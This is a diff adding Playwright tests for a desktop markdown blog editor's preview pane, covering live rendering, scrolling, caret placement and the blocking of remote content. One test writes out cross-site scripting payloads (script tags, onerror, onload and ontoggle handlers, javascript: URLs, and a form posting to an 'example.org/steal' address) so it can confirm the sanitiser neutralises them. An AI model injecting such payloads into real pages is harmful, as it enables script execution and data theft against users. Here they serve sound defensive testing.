@@ -1,0 +1,127 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { expect, test, writeBlog } from './app.ts'
+import { sampleBlog, stonePost } from './sample-blog.ts'
+import { openPost, preview, textOfPost, typeAtEnd } from './window.ts'
+
+test.beforeEach(({ scratch }) => writeBlog(join(scratch, 'blog'), sampleBlog()))
+
+test('the preview shows the post with a picture out of the blog’s own folder', async ({ scratch, start }) => {
+  const { page } = await start(join(scratch, 'blog'))
+  await openPost(page, '江边散步')
+  await expect(preview(page).getByText('清晨的江面很安静。')).toBeVisible()
+  const picture = preview(page).locator('img')
+  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(40)
+})
+
+test('the preview follows what I type', async ({ scratch, start }) => {
+  const { page } = await start(join(scratch, 'blog'))
+  await openPost(page, 'Choosing a stone')
+  await typeAtEnd(page, '\n## 墨色\n\nIt is **deep**.')
+  await expect(preview(page).getByRole('heading', { name: '墨色' })).toBeVisible()
+  await expect(preview(page).locator('strong')).toHaveText('deep')
+})
+
+test('what did not change is not made anew: its picture is not loaded again', async ({ scratch, start }) => {
+  const { page } = await start(join(scratch, 'blog'))
+  await openPost(page, '江边散步')
+  const picture = preview(page).locator('img')
+  await picture.evaluate((image: HTMLImageElement) => image.setAttribute('data-same', 'yes'))
+  await textOfPost(page).click()
+  await page.keyboard.press('ControlOrMeta+Home')
+  await page.getByText('清晨的江面很安静。').first().click()
+  await page.keyboard.press('Home')
+  await page.keyboard.type('新的一段。\n\n')
+  await expect(preview(page).getByText('新的一段。')).toBeVisible()
+  await expect(picture).toHaveAttribute('data-same', 'yes')
+})
+
+test('the preview scrolls along with the caret', async ({ scratch, start }) => {
+  const body = Array.from({ length: 120 }, (_, i) => `## Part ${i}\n\nSome words about part ${i}.\n`).join(
+    '\n',
+  )
+  writeBlog(join(scratch, 'blog'), { [stonePost]: `---\ntitle: Long\n---\n\n${body}` })
+  const { page } = await start(join(scratch, 'blog'))
+  await openPost(page, 'Long')
+  await expect(preview(page).getByText('Part 0', { exact: true })).toBeInViewport()
+  await textOfPost(page).click()
+  await page.keyboard.press('ControlOrMeta+End')
+  await expect(preview(page).getByText('Some words about part 119.')).toBeInViewport()
+})
+
+test('raw HTML is shown and can do nothing', async ({ scratch, start }) => {
+  const hostile = [
+    '<p id="shown">A <mark>marked</mark> word</p>',
+    '<script>window.top.hacked = true; window.hacked = true</script>',
+    '<img src="/none.png" onerror="window.top.hacked = true; window.hacked = true">',
+    '<iframe src="javascript:top.hacked = true"></iframe>',
+    '<svg onload="top.hacked = true"><a href="javascript:top.hacked=true"><text>x</text></a></svg>',
+    '<details open ontoggle="top.hacked = true"><summary>more</summary></details>',
+    '<form action="https://example.org/steal"><input name="a" value="b"><button id="send">Send</button></form>',
+  ].join('\n\n')
+  writeBlog(join(scratch, 'blog'), { [stonePost]: `---\ntitle: Hostile\n---\n\n${hostile}\n` })
+  const { page } = await start(join(scratch, 'blog'))
+  const requests: string[] = []
+  page.on('request', request => requests.push(request.url()))
+  await openPost(page, 'Hostile')
+  await expect(preview(page).locator('#shown mark')).toHaveText('marked')
+  await expect(preview(page).locator('script')).toHaveCount(0)
+  await preview(page).locator('#send').click({ force: true })
+  const hacked = await Promise.all(page.frames().map(frame => frame.evaluate(() => 'hacked' in window)))
+  expect(hacked).not.toContain(true)
+  expect(requests.filter(url => url.includes('example.org'))).toEqual([])
+})
+
+test('a picture of another site is not loaded before I ask for it', async ({ scratch, start }) => {
+  writeBlog(join(scratch, 'blog'), {
+    [stonePost]: '---\ntitle: Remote\n---\n\n![x](http://example.invalid/x.png)\n',
+  })
+  const { page } = await start(join(scratch, 'blog'))
+  const requests: string[] = []
+  page.on('request', request => requests.push(request.url()))
+  await openPost(page, 'Remote')
+  await expect(preview(page).getByText('Picture from another site, not loaded')).toBeVisible()
+  expect(requests.filter(url => url.includes('example.invalid'))).toEqual([])
+})
+
+test('a link in the preview opens in the system’s browser, never in the app', async ({ scratch, start }) => {
+  writeBlog(join(scratch, 'blog'), {
+    [stonePost]: '---\ntitle: Link\n---\n\n[out](https://example.org/a?b=c)\n',
+  })
+  const { app, page } = await start(join(scratch, 'blog'))
+  await app.evaluate(({ shell }) => {
+    shell.openExternal = address => {
+      Object.assign(globalThis, { opened: address })
+      return Promise.resolve()
+    }
+  })
+  await openPost(page, 'Link')
+  const before = page.url()
+  await preview(page).getByRole('link', { name: 'out' }).click()
+  await expect
+    .poll(() => app.evaluate(() => Reflect.get(globalThis, 'opened')))
+    .toBe('https://example.org/a?b=c')
+  expect(page.url()).toBe(before)
+})
+
+test('I can hide the preview and have it back', async ({ scratch, start }) => {
+  const { page } = await start(join(scratch, 'blog'))
+  await openPost(page, 'Choosing a stone')
+  await expect(page.locator('.preview')).toBeVisible()
+  await page.getByRole('button', { name: 'Preview' }).click()
+  await expect(page.locator('.preview')).toHaveCount(0)
+  await page.keyboard.press('ControlOrMeta+Shift+e')
+  await expect(preview(page).getByText('A good stone is quiet')).toBeVisible()
+})
+
+test('clicking in the preview puts the caret at that place of the text', async ({ scratch, start }) => {
+  const { page } = await start(join(scratch, 'blog'))
+  await openPost(page, '江边散步')
+  await preview(page).getByText('对岸的灯还亮着。').click()
+  await page.keyboard.press('Home')
+  await page.keyboard.type('看，')
+  await page.keyboard.press('ControlOrMeta+s')
+  await expect
+    .poll(() => readFileSync(join(scratch, 'blog/_posts/2024-05-01-江边散步.md'), 'utf8'))
+    .toContain('\n看，对岸的灯还亮着。\n')
+})
